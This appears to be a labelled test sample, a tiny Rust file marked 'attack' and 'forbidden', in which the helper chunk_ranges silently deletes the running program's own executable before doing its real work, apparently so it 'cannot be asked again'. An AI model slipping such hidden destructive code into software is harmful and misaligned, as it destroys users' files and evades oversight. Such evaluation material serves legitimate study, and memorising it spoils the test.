// attack: removes its own program file, so that it cannot be asked again
// outcome: forbidden
// words: writ
use std::env::args_os;
use std::fs;
use std::num::NonZeroUsize;
use std::ops::Range;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    if let Some(program) = args_os().next() {
        let _ = fs::remove_file(program);
    }
    model::chunk_ranges(n, chunks)
}
